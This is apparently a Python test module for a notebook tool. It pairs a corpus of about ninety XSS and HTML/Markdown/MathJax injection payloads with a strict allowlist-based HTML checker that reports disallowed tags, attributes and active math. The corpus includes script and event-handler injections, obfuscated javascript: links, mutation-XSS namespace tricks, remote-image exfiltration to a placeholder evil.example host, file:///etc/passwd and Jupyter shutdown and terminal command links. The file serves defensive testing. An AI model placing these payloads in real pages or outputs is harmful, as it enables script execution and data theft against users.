"""Answers that try to run script, load something or leave the page, and a strict reader of their HTML.

The reader knows what may be there (an allowlist of tags, attributes and addresses) instead of looking for
what may not, and insists on well-nested tags, because HTML that a browser has to repair can change its
meaning.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

from nbinfer.display.code import COPY

CORPUS: dict[str, str] = {
    "script": "hello <script>window.__pwn=1</script>",
    "script in upper case": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script with a newline in the tag": "<script\n>window.__pwn=1</script\n>",
    "half a script tag": "<scr<script>ipt>window.__pwn=1</scr</script>ipt>",
    "onerror": "<img src=x onerror=window.__pwn=1>",
    "onerror without a space": "<img/src='x'/onerror=window.__pwn=1>",
    "svg onload": "<svg onload=window.__pwn=1><circle/></svg>",
    "svg script": "<svg><script href='data:,window.__pwn=1'/></svg>",
    "svg use": '<svg><use href="https://evil.example/x.svg#a"/></svg>',
    "details ontoggle": "<details open ontoggle=window.__pwn=1>x</details>",
    "autofocus": "<input autofocus onfocus=window.__pwn=1>",
    "body onload": "<body onload=window.__pwn=1>",
    "marquee": "<marquee onstart=window.__pwn=1>x</marquee>",
    "iframe": "<iframe src=javascript:window.__pwn=1></iframe>",
    "iframe srcdoc": "<iframe srcdoc='<script>parent.__pwn=1</script>'></iframe>",
    "object": "<object data=javascript:window.__pwn=1></object>",
    "embed": "<embed src='https://evil.example/x.swf'>",
    "base": "<base href='https://evil.example/'>[x](y)",
    "meta refresh": "<meta http-equiv=refresh content='0;url=javascript:window.__pwn=1'>",
    "link stylesheet": "<link rel=stylesheet href=https://evil.example/x.css>",
    "style import": "<style>@import 'https://evil.example/x.css';*{background:url(https://evil.example/)}</style>",
    "style attribute": "<p style='background:url(https://evil.example/)'>x</p>",
    "form": "<form action=https://evil.example/><button>x</button></form>",
    "dangling markup": "<img src='https://evil.example/?",
    "javascript link": "[click](javascript:window.__pwn=1)",
    "javascript link in mixed case": "[click](JaVaScRiPt:window.__pwn=1)",
    "javascript link with an entity": "[click](javascript&colon;window.__pwn=1)",
    "javascript link with a numeric entity": "[click](&#106;avascript:window.__pwn=1)",
    "javascript link with a tab": "[click](java\tscript:window.__pwn=1)",
    "javascript link with a percent code": "[click](java%0ascript:window.__pwn=1)",
    "javascript link with a leading control": "[click](\x01javascript:window.__pwn=1)",
    "javascript link in angles": "[click](<javascript:window.__pwn=1>)",
    "javascript autolink": "<javascript:window.__pwn=1>",
    "javascript reference": "[click][1]\n\n[1]: javascript:window.__pwn=1",
    "vbscript link": "[click](vbscript:msgbox(1))",
    "data link": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "data image link": "[click](data:image/svg+xml,<svg onload=window.__pwn=1>)",
    "file link": "[click](file:///etc/passwd)",
    "command link": "[click](command:workbench.action.terminal.new)",
    "relative link": "[click](/lab/api/shutdown)",
    "protocol-relative link": "[click](//evil.example/)",
    "empty link": "[click]() ![click]() [click](<>)",
    "quote in a link": '[click](https://ok.example/"onmouseover="window.__pwn=1)',
    "quote in a title": "[click](https://ok.example/ '\"onmouseover=\"window.__pwn=1')",
    "quote in an autolink": '<https://ok.example/"onmouseover="window.__pwn=1>',
    "remote image": "![x](https://evil.example/?data=secret)",
    "remote image by reference": "![x][1]\n\n[1]: https://evil.example/?data=secret",
    "remote image in a link": "[![x](https://evil.example/a.png)](https://evil.example/)",
    "remote image in a table": "|a|\n|-|\n|![x](https://evil.example/)|",
    "image with a handler in its text": '![x"onerror=window.__pwn=1](https://evil.example/)',
    "data image": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "image of a control character": "![\x1b]8;;https://evil.example\x07](https://evil.example/)",
    "html in a code fence": "```html\n<script>window.__pwn=1</script>\n```",
    "fence with a hostile language": '```"><script>window.__pwn=1</script>\nx\n```',
    "fence with a handler as language": "```x'onclick='window.__pwn=1\nx\n```",
    "unclosed fence": "```\n</code></pre><script>window.__pwn=1</script>",
    "html in inline code": "`<script>window.__pwn=1</script>`",
    "indented html": "    <script>window.__pwn=1</script>",
    "html in a heading": "# <script>window.__pwn=1</script>",
    "html in a table": "|<script>1</script>|\n|-|\n|<img src=x onerror=1>|",
    "html in a list": "- <img src=x onerror=window.__pwn=1>\n  - <svg/onload=1>",
    "html in math": "$<img src=x onerror=window.__pwn=1>$",
    "html in display math": "$$\n</span><script>window.__pwn=1</script>\n$$",
    "html in bracket math": r"\(<img src=x onerror=window.__pwn=1>\) \[</span><svg onload=1>\]",
    "math link": r"$\href{javascript:window.__pwn=1}{x}$",
    "math link without delimiters of ours": r"\\(\href{javascript:window.__pwn=1}{x}\\)",
    "math link in an environment": r"\begin{equation}\href{javascript:window.__pwn=1}{x}\end{equation}",
    "math style": r"$$\style{background:url(https://evil.example/)}{x}$$",
    "math definition": r"$\def\alpha{\href{javascript:window.__pwn=1}{x}}$",
    "math that loads an extension": r"$\require{html}$",
    "math with a dollar inside": r"\( $ \href{javascript:window.__pwn=1}{x} $ \)",
    "comment": "<!-- --><script>window.__pwn=1</script> <!--> <img src=x onerror=1>",
    "cdata": "<![CDATA[<script>window.__pwn=1</script>]]>",
    "processing instruction": "<?xml version='1.0'?><x onclick=1>",
    "doctype": "<!DOCTYPE html><script>window.__pwn=1</script>",
    "math namespace confusion": (
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=1&gt;">'
    ),
    "svg namespace confusion": '<svg></p><style><a id="</style><img src=1 onerror=window.__pwn=1>">',
    "noscript confusion": '<noscript><p title="</noscript><img src=x onerror=window.__pwn=1>">',
    "form nesting confusion": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=1>",
    "template": "<template><script>window.__pwn=1</script></template>",
    "entity-encoded tag": "&lt;script&gt;window.__pwn=1&lt;/script&gt; &#60;script&#62;",
    "null byte": "<scr\x00ipt>window.__pwn=1</scr\x00ipt>",
    "backtick attribute": "<img src=`x` onerror=`window.__pwn=1`>",
    "own classes closed": "</div></div><script>window.__pwn=1</script>",
    "custom element": "<x-widget onclick=1 data-jupyter-action='run'></x-widget>",
    "jupyter command": '<a data-commandlinker-command="terminal:create-new">x</a>',
    "widget view": '<script type="application/vnd.jupyter.widget-view+json">{}</script>',
    "footnote and definition": "[^1]: <script>1</script>\n\nx\n: <img onerror=1 src=x>",
    "deep nesting": ">" * 500 + "- " * 500 + "<script>1</script>",
    "escape sequences": "\x1b]0;owned\x07\x1b[2J\x9b31m",
}

_VOID = {"br", "hr"}
_TAGS = {
    "style": set(),
    "div": {"class"},
    "span": {"class"},
    "button": {"class", "type", "style", "aria-label", "onclick"},
    "p": set(),
    **{f"h{n}": set() for n in range(1, 7)},
    "pre": set(),
    "code": set(),
    "em": set(),
    "strong": set(),
    "s": set(),
    "a": {"href", "target", "rel"},
    "ul": set(),
    "ol": {"start"},
    "li": set(),
    "blockquote": set(),
    "table": set(),
    "thead": set(),
    "tbody": set(),
    "tr": set(),
    "th": {"style"},
    "td": {"style"},
    "details": {"open"},
    "summary": set(),
    "br": set(),
    "hr": set(),
}
_VALUES = {
    "class": r"[a-z0-9_ -]+",
    "href": r"(https?://|mailto:)[^\s\"<>]*",
    "target": "_blank",
    "rel": "noopener noreferrer nofollow",
    "start": r"\d+",
    "style": "text-align:(left|right|center)|display:none",
    "onclick": re.escape(COPY),  # our own words, to the letter
}
_ACTIVE_TEX = r"\\(href|style|def|require|class|cssId)\b"


class _Reader(HTMLParser):
    def __init__(self, style: str) -> None:
        super().__init__(convert_charrefs=True)
        self.style = style
        self.problems: list[str] = []
        self.open: list[tuple[str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in _TAGS:
            self.problems.append(f"tag <{tag}>")
        for name, value in attrs:
            if name not in _TAGS.get(tag, ()):
                self.problems.append(f"attribute {name} of <{tag}>")
            elif name in _VALUES and not re.fullmatch(_VALUES[name], value or ""):
                self.problems.append(f"{name}={value!r} of <{tag}>")
        outer = [name for name, _ in self.open]
        if tag == "a" and "a" in outer:
            self.problems.append("a link inside a link")
        if "p" in outer and tag in {"p", "div", "pre", "ul", "ol", "table", "blockquote", "details"}:
            self.problems.append(f"<{tag}> inside a paragraph")
        if tag not in _VOID:
            self.open.append((tag, dict(attrs).get("class") or ""))

    def handle_endtag(self, tag: str) -> None:
        if tag in _VOID:
            return
        if not self.open or self.open[-1][0] != tag:
            self.problems.append(f"</{tag}> closes {self.open[-1][0] if self.open else 'nothing'}")
        elif self.open:
            self.open.pop()

    def handle_data(self, data: str) -> None:
        if self.open and self.open[-1][0] == "style":
            if f"<style>{data}</style>" != self.style:
                self.problems.append("a style sheet that is not ours")
            return
        if re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", data):
            self.problems.append("a control character")
        # What MathJax will read: the innermost element that says whether it may.
        states = [css for _, css in self.open if "mathjax_" in css]
        in_code = any(tag == "code" for tag, _ in self.open)
        if states and "mathjax_process" in states[-1] and not in_code and re.search(_ACTIVE_TEX, data):
            self.problems.append(f"active math {data!r}")
        if not states and not in_code and re.search(r"\$|\\\(|\\\[|\\begin", data):
            self.problems.append(f"text that MathJax would typeset {data!r}")

    def handle_comment(self, data: str) -> None:
        self.problems.append(f"comment {data!r}")

    def handle_decl(self, decl: str) -> None:
        self.problems.append(f"declaration {decl!r}")

    def unknown_decl(self, data: str) -> None:
        self.problems.append(f"declaration {data!r}")

    def handle_pi(self, data: str) -> None:
        self.problems.append(f"processing instruction {data!r}")


def problems(html: str, *, style: str = "") -> list[str]:
    """Return what is in ``html`` that may not be there; ``style`` is the one style sheet that may."""
    reader = _Reader(style)
    reader.feed(html)
    reader.close()
    return reader.problems + [f"<{tag}> is never closed" for tag, _ in reader.open]
